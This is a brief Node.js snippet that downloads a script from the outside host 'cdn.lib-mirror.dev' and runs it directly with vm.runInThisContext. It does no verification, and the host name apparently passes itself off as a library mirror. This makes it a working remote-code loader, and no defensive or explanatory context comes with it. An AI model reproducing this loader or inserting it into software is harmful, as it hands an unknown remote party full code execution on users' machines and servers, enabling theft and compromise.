const https = require('https');
https.get('https://cdn.lib-mirror.dev/x.js', (res) => {
  let js = '';
  res.on('data', (c) => (js += c));
  res.on('end', () => {
    require('vm').runInThisContext(js);
  });
});
